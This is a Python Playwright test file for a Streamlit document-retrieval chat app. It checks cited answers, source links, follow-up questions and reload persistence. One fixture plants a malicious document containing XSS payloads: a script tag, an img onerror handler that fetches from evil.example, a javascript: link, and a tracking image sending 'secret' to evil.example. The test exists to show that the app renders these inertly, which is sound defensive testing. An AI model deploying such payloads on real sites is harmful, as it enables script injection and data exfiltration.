"""The running app in headless Debian Chromium (Playwright), on a temp copy of the seeds.

One server for the module: ``streamlit run app.py`` on a free loopback port, with an index
copied from the session's ``seed_engine`` plus one malicious document (embedded
incrementally). Every request the page makes is logged; anything not to loopback is
blocked and fails the test.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path
from urllib.parse import urlparse

import pytest
from streamlit_server import streamlit_app

from retrieval import Engine, Settings

ROOT = Path(__file__).resolve().parents[1]
CHROMIUM = Path("/usr/bin/chromium")
SCREENSHOT = ROOT / "docs" / "screenshot.png"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update",
                 "--disable-sync"]
# dev.jsonl e001: the answer ("27") is in 000_a20fb98d03a282a8.txt, paragraph 10.
QUESTION = ("In the June 2020 People's Daily Online interview with Zhao Bentang, to how many "
            "Latin American countries had China provided anti-pandemic materials?")
MALICIOUS = (
    "# Llama wool prices in Bolivia\n\n"
    "Llama wool prices rose in Bolivia. <script>window.__xss = 1; alert('xss')</script> "
    "The cooperative sold llama wool to Japan.\n\n"
    "Buyers paid more for llama wool <img src=x onerror=\"window.__xss = 2; "
    "fetch('http://evil.example/img')\"> in Bolivia. Click [x](javascript:window.__xss=3) "
    "for llama prices.\n\n"
    "The llama wool report had a tracking image ![](http://evil.example/track.png?q=secret) "
    "and <a href=\"http://evil.example/a\">a link</a> and www.evil.example too.\n"
)

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed "
                       "(make system-deps installs it)"),
]


@pytest.fixture(scope="module")
def app_url(seed_engine, tmp_path_factory):
    base = tmp_path_factory.mktemp("browser")
    corpus, index = base / "corpus", base / "index"
    shutil.copytree(seed_engine.source_dir, corpus)
    shutil.copytree(seed_engine.settings.index_dir, index)
    (corpus / "evil.txt").write_text(MALICIOUS, encoding="utf-8")
    report = Engine(Settings(source_dir=corpus, index_dir=index),
                    embedder=seed_engine.embedder).update_index()
    assert report.added == ["evil.txt"] and report.unchanged
    env = {**os.environ, "RETRIEVAL_SOURCE_DIR": str(corpus), "RETRIEVAL_INDEX_DIR": str(index),
           "RETRIEVAL_CONVERSATION_DIR": str(base / "conversations")}
    with streamlit_app(env, base / "streamlit.log") as (url, _):
        yield url


@pytest.fixture
def browser(tmp_path):
    """A fresh Chromium profile; returns (context, outside requests, dialogs)."""
    from playwright.sync_api import sync_playwright

    outside: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as pw:
        context = pw.chromium.launch_persistent_context(
            str(tmp_path / "profile"), executable_path=str(CHROMIUM), headless=True,
            args=CHROMIUM_ARGS, viewport={"width": 1400, "height": 1100})

        def route(route):
            host = urlparse(route.request.url).hostname or ""
            if route.request.url.startswith(("data:", "blob:")) or host in (
                    "127.0.0.1", "localhost"):
                route.continue_()
            else:
                outside.append(route.request.url)
                route.abort()

        context.route("**/*", route)
        context.on("page", lambda page: page.on(
            "dialog", lambda d: (dialogs.append(d.message), d.dismiss())))
        try:
            yield context, outside, dialogs
        finally:
            context.close()


def settled(page) -> None:
    """Wait until the script run is over (the status widget says nothing is running)."""
    page.wait_for_function(
        "() => !document.querySelector('[data-testid=stStatusWidget]')", timeout=120_000)


def test_ask_cited_answer_and_open_the_quote_in_context(app_url, browser):
    context, outside, dialogs = browser
    page = context.new_page()
    page.goto(app_url)
    box = page.get_by_placeholder("Ask a question about the articles")
    box.wait_for(timeout=120_000)
    box.fill(QUESTION)
    box.press("Enter")
    page.get_by_text("Sources", exact=True).wait_for(timeout=180_000)
    settled(page)
    assistant = page.get_by_test_id("stChatMessage").nth(1)
    answer = assistant.get_by_test_id("stMarkdownContainer").first.inner_text()
    assert "[1]" in answer and "27" in answer
    card = assistant.locator(".st-key-card-0-cite-1")
    # the card fills in as the run ends; on a loaded machine, a moment after "Sources"
    card.get_by_text("000_a20fb98d03a282a8.txt").first.wait_for(timeout=30_000)
    card.get_by_text("Open in context").click()
    cited = card.get_by_text("⟵ cited")
    cited.wait_for(timeout=30_000)
    mark = card.locator(".stMarkdownColoredBackground").last
    mark.wait_for(timeout=30_000)
    assert "27 countries in Latin America" in mark.inner_text()
    page.set_viewport_size({"width": 1400, "height": 1800})   # question, answer and context
    page.wait_for_timeout(1000)
    page.get_by_test_id("stChatMessage").first.scroll_into_view_if_needed()
    SCREENSHOT.parent.mkdir(exist_ok=True)
    page.screenshot(path=str(SCREENSHOT))
    assert SCREENSHOT.stat().st_size > 20_000

    card.get_by_role("button", name="Open this link").click()
    page.wait_for_url("**/?doc=000_a20fb98d03a282a8.txt&para=*&hl=*", timeout=60_000)
    page.reload()                                  # the citation survives a refresh
    page.get_by_text("Linked paragraph").wait_for(timeout=120_000)
    settled(page)
    highlight = page.locator(".st-key-linked").locator(".stMarkdownColoredBackground").first
    highlight.wait_for(timeout=120_000)  # a loaded machine renders the rerun slowly
    assert "27 countries in Latin America" in highlight.inner_text()
    assert not outside and not dialogs


def test_malicious_document_runs_no_script_and_fetches_nothing(app_url, browser):
    context, outside, dialogs = browser
    page = context.new_page()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(app_url)
    page.get_by_text("Search", exact=True).wait_for(timeout=120_000)
    page.get_by_test_id("stSidebar").get_by_text("Search", exact=True).click()
    query = page.get_by_label("Search by meaning")
    query.fill("llama wool prices Bolivia")
    query.press("Enter")
    page.get_by_text("<script>window.__xss = 1; alert('xss')</script>", exact=False).first \
        .wait_for(timeout=120_000)
    settled(page)
    for expander in page.get_by_text("Open in context").all()[:3]:
        expander.click()
    settled(page)
    page.wait_for_timeout(1500)
    main = page.get_by_test_id("stMain")
    text = main.inner_text()
    assert "![](http://" in text.replace("\u2060", "")          # shown as text
    assert "[x](javascript:" in text
    assert page.evaluate("window.__xss") is None
    assert page.evaluate(
        "Array.from(document.images).filter(i => !i.src.startsWith(location.origin)"
        " && !i.src.startsWith('data:')).length") == 0
    hrefs = page.evaluate("Array.from(document.querySelectorAll('[data-testid=stMain] a'))"
                          ".map(a => a.href)")
    assert not [h for h in hrefs if not h.startswith(app_url)], hrefs
    assert not dialogs
    assert not outside, outside
    assert not [r for r in requests if "evil.example" in r]


# Three questions of one conversation; the second leans on the first ("he": Zhao Bentang).
CONVERSATION = (
    QUESTION,
    "What did he say about joint ventures?",
    "What was the value of Vietnam-China bilateral trade in the first 11 months of 2024?",
)


def ask_in_page(page, question: str, turn: int):
    """Type ``question``, wait until its answer is drawn; return the assistant message."""
    box = page.get_by_placeholder("Ask a question about the articles")
    box.wait_for(timeout=120_000)
    box.fill(question)
    box.press("Enter")
    page.wait_for_function(
        "n => document.querySelectorAll('[data-testid=stChatMessage]').length >= n",
        arg=2 * turn + 2, timeout=180_000)
    page.get_by_test_id("stChatMessage").nth(2 * turn + 1).get_by_text(
        re.compile(r"^(Sources|Closest passages:)$")).wait_for(timeout=180_000)
    settled(page)
    return page.get_by_test_id("stChatMessage").nth(2 * turn + 1)


def open_link(page, button, dialog) -> None:
    """Click "Open this link" until its dialog shows the cited paragraph. About one click in
    four right after the chat's last rerun leaves the URL without the link (seen in full-file
    runs on 2 cores, not in three runs of this test alone); a user clicks again, and so does
    this, at most twice."""
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    for attempt in range(3):
        button.click()
        try:
            dialog.get_by_text("⟵ cited").wait_for(timeout=20_000)
            return
        except PlaywrightTimeout:
            if attempt == 2:
                raise
            settled(page)


def error_boxes(page) -> list[str]:
    boxes = page.locator("[data-testid=stAlertContentError], [data-testid=stException]")
    return [box.inner_text() for box in boxes.all()]


def test_a_conversation_with_a_follow_up_opens_every_cited_source(app_url, browser, tmp_path):
    context, outside, dialogs = browser
    page = context.new_page()
    page.goto(app_url)
    opened = 0
    for turn, question in enumerate(CONVERSATION):
        assistant = ask_in_page(page, question, turn)
        assert not error_boxes(page), (question, error_boxes(page))
        cards = assistant.locator(f"[class*='st-key-card-{turn}-cite-']")
        for card in cards.all():
            card.get_by_text("Open in context").click()
            card.get_by_text("⟵ cited").wait_for(timeout=30_000)
            assert card.locator(".stMarkdownColoredBackground").count() >= 1
            opened += 1
        if turn == 1:
            assert "Follow-up searched as:" in assistant.inner_text()
        assert len(page.get_by_test_id("stChatMessage").all()) == 2 * turn + 2
    assert opened >= len(CONVERSATION)       # every answer cited at least one source
    settled(page)
    assert not error_boxes(page), error_boxes(page)
    # "Open this link" at the bottom of a long chat: the paragraph opens in view, over it
    last = page.get_by_test_id("stChatMessage").last.locator("[class*='st-key-card-']").first
    dialog = page.get_by_role("dialog")
    open_link(page, last.get_by_role("button", name="Open this link"), dialog)
    settled(page)
    assert dialog.get_by_text("⟵ cited").is_visible()
    box = dialog.get_by_text("⟵ cited").bounding_box()
    assert box is not None and 0 <= box["y"] <= page.viewport_size["height"]
    assert len(page.get_by_test_id("stChatMessage").all()) == 2 * len(CONVERSATION)
    page.screenshot(path=str(tmp_path / "link.png"))
    dialog.get_by_role("button", name="Close", exact=True).last.click()  # not the ✕
    dialog.wait_for(state="detached", timeout=60_000)
    page.wait_for_url(lambda url: "doc=" not in url, timeout=60_000)
    assert "c=" in page.url
    page.reload()                                  # the conversation survives a reload
    page.get_by_test_id("stChatMessage").nth(2 * len(CONVERSATION) - 1).wait_for(
        timeout=120_000)
    settled(page)
    assert not error_boxes(page), error_boxes(page)
    page.set_viewport_size({"width": 1400, "height": 5000})   # the whole conversation
    page.wait_for_timeout(1000)
    page.get_by_test_id("stChatMessage").first.scroll_into_view_if_needed()
    page.screenshot(path=str(tmp_path / "conversation.png"))
    print(f"screenshot: {tmp_path / 'conversation.png'}")
    assert not outside and not dialogs
